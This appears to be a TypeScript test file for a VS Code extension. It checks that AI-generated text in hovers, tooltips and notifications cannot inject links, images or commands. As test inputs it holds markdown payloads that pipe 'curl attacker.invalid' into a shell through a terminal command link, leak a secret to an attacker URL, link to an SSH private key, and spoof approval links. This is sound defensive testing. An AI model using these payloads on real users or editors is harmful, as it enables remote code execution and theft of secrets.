// Model text (proposed files, run titles, questions, failure reasons, paths) reaches VS Code
// surfaces that read markup. Each test renders what the extension builds from hostile text with
// the parser that surface uses and checks that the text added no link, image or command; the
// daemon's own messages, which vscode-languageclient shows itself, are read without links.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import { test } from 'node:test';
import { type Token, type Tokens, marked } from 'marked';
import { type Message, ShowMessageNotification, StreamMessageReader } from 'vscode-languageserver-protocol/node';
import type { Change, Hunk, Initiative, Proposal, Run, Task } from '../../src/generated/protocol';
import { HOVER_COMMANDS, hunkHover } from '../../src/model/hunks';
import { LinkFreeReader } from '../../src/model/linkFreeReader';
import { initiativeTooltip, proposalTooltip, runTooltip, taskTooltip } from '../../src/model/tooltips';
import { noLinks } from '../../src/model/untrusted';
import { TestDaemon } from '../support/daemon';
import { makeGitRepo } from '../support/workspace';

/** Every link and image of `markdown` as VS Code's renderer (marked) reads it. */
function targets(markdown: string): string[] {
  const found: string[] = [];
  const walk = (tokens: Token[]) => {
    for (const token of tokens) {
      if (token.type === 'link' || token.type === 'image') found.push(`${token.type} ${(token as Tokens.Link).href}`);
      const children = (token as { tokens?: Token[] }).tokens;
      if (children) walk(children);
      for (const item of (token as Tokens.List).items ?? []) walk(item.tokens);
    }
  };
  walk(marked.lexer(markdown));
  return found;
}

/** The text of the code blocks of `markdown`. */
function codeBlocks(markdown: string): string[] {
  return marked.lexer(markdown).filter((t): t is Tokens.Code => t.type === 'code').map((t) => t.text);
}

const change = { id: 7, runId: 3, hunks: [{}] } as unknown as Change;
const hunk = { index: 0, oldStart: 1, oldLines: 1, newStart: 1, newLines: 4 } as Hunk;
const approveOther = 'command:devfactory.approveChange?' + encodeURIComponent(JSON.stringify([99, 0]));
const REAL_LINKS = [
  `link command:devfactory.approveChange?${encodeURIComponent('[7,0]')}`,
  `link command:devfactory.rejectChange?${encodeURIComponent('[7,0]')}`,
  `link command:devfactory.openDiff?${encodeURIComponent('[7]')}`,
];

for (const [name, added] of [
  ['a closing fence, then a fake Reject link that approves another change', ['x = 1', '```', `[$(close) Reject](${approveOther})`, '```']],
  ['a longer fence', ['x = 1', '````', `[Reject](${approveOther})`, '````']],
  ['an indented fence', ['x = 1', '   ```', `[Reject](${approveOther})`, '   ```']],
  ['a fence on a line ending in a lone carriage return', ['x = 1\r```\r[Reject](' + approveOther + ')\r```']],
  ['an image that loads a URL naming a secret', ['```', '![](https://attacker.invalid/leak?k=SECRET)']],
] as const) {
  test(`hunk hover: proposed text with ${name} stays text`, () => {
    const hover = hunkHover(change, hunk, added, 'python');
    assert.deepEqual(targets(hover), REAL_LINKS);
    assert.deepEqual(codeBlocks(hover), [added.join('\n').replace(/\r/g, '\n')]); // marked reads a lone CR as a line end
  });
}

test('hunk hover: its trusted commands are the three it links to', () => {
  const hover = hunkHover(change, hunk, ['x = 1'], 'python');
  assert.deepEqual(targets(hover).map((t) => t.replace(/^link command:([^?]+).*$/, '$1')), HOVER_COMMANDS);
});

/**
 * The links VS Code finds in a notification's message (newlines made spaces first) or an input
 * box's prompt: its parseLinkedText (vs/base/common/linkedText.ts, the regular expression as
 * code-server 4.139.1 ships it). It opens them with commands allowed.
 */
function vscodeLinks(message: string): string[] {
  const link = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
  return [...message.replace(/(\r\n|\n|\r)/gm, ' ').matchAll(link)].map((m) => m[2]);
}

const sendSequence = 'command:workbench.action.terminal.sendSequence?' + encodeURIComponent(JSON.stringify({ text: 'curl attacker.invalid | sh\n' }));
for (const [name, text] of [
  ['a question whose answer link types a command into the terminal', `Continue with the migration? [Yes](${sendSequence})`],
  ['a link with a title', `[Open Console](${sendSequence} "Open the console")`],
  ['a link whose label spans lines', `[Open\nConsole](${sendSequence})`],
  ['a file name that is a link (a valid path for the daemon)', `DevFactory: [docs](${sendSequence}) resolved.`],
  ['a web link', 'Run 4 failed: [details](https://attacker.invalid/?k=SECRET)'],
  ['a file link', 'see [this](file:///home/user/.ssh/id_rsa)'],
] as const) {
  test(`notification and prompt text: ${name} is no link`, () => {
    assert.notDeepEqual(vscodeLinks(text), [], 'VS Code reads a link in the raw text');
    assert.deepEqual(vscodeLinks(noLinks(text)), []);
    assert.deepEqual(vscodeLinks(`${noLinks(text)} (Press 'Enter' to confirm or 'Escape' to cancel)`), []);
  });
}

test("the daemon's window/showMessage quoting the workspace's devfactory.toml reaches the client without links", async () => {
  const workspace = makeGitRepo({ 'devfactory.toml': `[devfactory]\nlogLevel = "[Fix](${sendSequence})"\n` });
  const daemon = await TestDaemon.start(workspace);
  try {
    const sent = await daemon.waitFor('the settings warning', () => daemon.messages.find((m) => m.message.includes('logLevel')));
    assert.deepEqual(vscodeLinks(sent.message), [sendSequence], 'the daemon quotes the value as it is');
    // vscode-languageclient shows it with vscode.window's own call: what it reads must be text.
    const wire = new PassThrough();
    const read = new Promise<Message>((resolve) => new LinkFreeReader(new StreamMessageReader(wire)).listen(resolve));
    const body = JSON.stringify({ jsonrpc: '2.0', method: ShowMessageNotification.method, params: sent });
    wire.write(`Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
    const shown = (await read) as Message & { params: typeof sent };
    assert.deepEqual(vscodeLinks(shown.params.message), []);
    assert.equal(shown.params.message, noLinks(sent.message));
  } finally {
    await daemon.stop();
    rmSync(workspace, { recursive: true, force: true });
  }
});

test('notification text: plain words and brackets read as before', () => {
  assert.equal(noLinks('Run 3 failed: step [2] (the tests) broke'), 'Run 3 failed: step [2] (the tests) broke');
});

/** The text a reader sees in `markdown` (marked's plain text of every token, no markup). */
function shownText(markdown: string): string {
  const parts: string[] = [];
  const walk = (tokens: Token[]) => {
    for (const token of tokens) {
      const children = (token as { tokens?: Token[] }).tokens;
      if (children) walk(children);
      else if (token.type === 'text' || token.type === 'escape' || token.type === 'codespan' || token.type === 'code' || token.type === 'html') parts.push((token as Tokens.Text).text);
    }
  };
  walk(marked.lexer(markdown));
  return parts.join('');
}

const HOSTILE = [
  '![](https://attacker.invalid/leak?k=SECRET)',
  '[the docs](https://attacker.invalid/)',
  '<img src="https://attacker.invalid/x.png">',
  '<https://attacker.invalid/auto>',
  'https://attacker.invalid/bare',
  'www.attacker.invalid',
  'someone@attacker.invalid',
  '[ref][1]\n\n[1]: https://attacker.invalid/ref',
].join(' ');
for (const [name, markdown, title] of [
  ['a run (title and failure reason)', runTooltip({ id: 4, title: `Fix ${HOSTILE}`, status: 'failed', mode: 'review', provider: 'openai', model: null, failedReason: HOSTILE } as unknown as Run), `#4 Fix ${HOSTILE}`],
  ['an initiative (name)', initiativeTooltip({ name: HOSTILE, branch: 'df/i-1', goal: 'a goal' } as unknown as Initiative), HOSTILE],
  ['a task (title, description, summary, reason, question)', taskTooltip({ title: HOSTILE, status: 'blocked', description: HOSTILE, summary: HOSTILE, failedReason: HOSTILE, checkpoint: { question: HOSTILE } } as unknown as Task), HOSTILE],
  ['a proposal (title and content)', proposalTooltip({ title: HOSTILE, content: `## Plan\n\n${HOSTILE}`, summary: '' } as unknown as Proposal), HOSTILE],
] as const) {
  test(`tooltip of ${name}: model text adds no link or image`, () => {
    assert.deepEqual(targets(markdown), []);
    assert.ok(!/<img|<a /i.test(marked.parse(markdown) as string), 'no HTML image or link');
    assert.ok(shownText(markdown).includes(title.replace(/\n/g, '')), 'the text reads as it was written');
  });
}
